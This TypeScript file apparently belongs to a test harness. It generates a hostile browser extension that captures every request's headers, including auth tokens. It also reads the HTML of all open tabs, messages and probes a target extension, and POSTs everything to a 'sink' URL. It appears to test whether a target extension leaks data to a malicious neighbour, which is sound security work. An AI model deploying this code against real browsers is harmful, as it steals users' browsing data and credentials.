import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

import type { Browser as Extension } from 'webextension-polyfill';

import type { Target } from './target';

/** What the neighbour tells: what it saw, read or was answered, and how often it got nothing. */
export interface Told {
  what: 'saw' | 'read' | 'answer' | 'nothing';
  data: string;
}

const PERMISSIONS = ['webRequest', 'scripting', 'tabs'];

/** Writes another extension, which may do all that one can be allowed to do with pages. */
export async function writeNeighbour(folder: string, given: Target & { sink: string }) {
  await mkdir(folder, { recursive: true });
  const manifest = {
    manifest_version: 3,
    name: 'Neighbour',
    version: '1',
    permissions: PERMISSIONS,
    host_permissions: ['<all_urls>'],
    background: { service_worker: 'pry.js', scripts: ['pry.js'] },
    browser_specific_settings: { gecko: { id: 'neighbour@neighbour.invalid' } },
  };
  await writeFile(join(folder, 'manifest.json'), JSON.stringify(manifest));
  const script = `{ const __name = (fn) => fn; (${String(pry)})(${JSON.stringify(given)}); }`;
  await writeFile(join(folder, 'pry.js'), script);
}

/** Chromium shows the header with the token to who asks for more. */
interface Options {
  OnBeforeSendHeadersOptions: object;
}

/** Its background: watches all requests, and tries the rest whenever a page has loaded. */
function pry({ sink, origin, id, messages }: Target & { sink: string }): void {
  const scope = globalThis as unknown as Record<'browser' | 'chrome', Extension>;
  const { runtime, scripting, tabs, webRequest } = scope.browser ?? scope.chrome;

  const tell = (what: Told['what'], data: unknown) => {
    const body = JSON.stringify({ what, data: JSON.stringify(data ?? null) });
    void fetch(sink, { method: 'POST', body });
  };
  const attempt = async (what: Told['what'], work: () => Promise<unknown>) =>
    work().then(
      (got) => tell(got === undefined ? 'nothing' : what, got ?? what),
      () => tell('nothing', what),
    );
  const tryAll = async () => {
    for (const message of messages) await attempt('answer', () => runtime.sendMessage(id, message));
    await attempt('read', async () => (await fetch(`${origin}/popup.html`)).text());
    for (const tab of await tabs.query({})) {
      const wanted = {
        target: { tabId: tab.id ?? 0 },
        func: () => [location.href, document.documentElement.outerHTML],
      };
      await attempt('read', async () => (await scripting.executeScript(wanted))[0]?.result);
    }
  };

  const isExtra = 'EXTRA_HEADERS' in (webRequest as unknown as Options).OnBeforeSendHeadersOptions;
  webRequest.onBeforeSendHeaders.addListener(
    ({ url, requestHeaders }) => {
      if (!url.startsWith(sink)) tell('saw', [url, requestHeaders]);
    },
    { urls: ['<all_urls>'] },
    ['requestHeaders', ...((isExtra ? ['extraHeaders'] : []) as never[])],
  );
  tabs.onUpdated.addListener((_id, { status }) => {
    if (status === 'complete') void tryAll();
  });
}
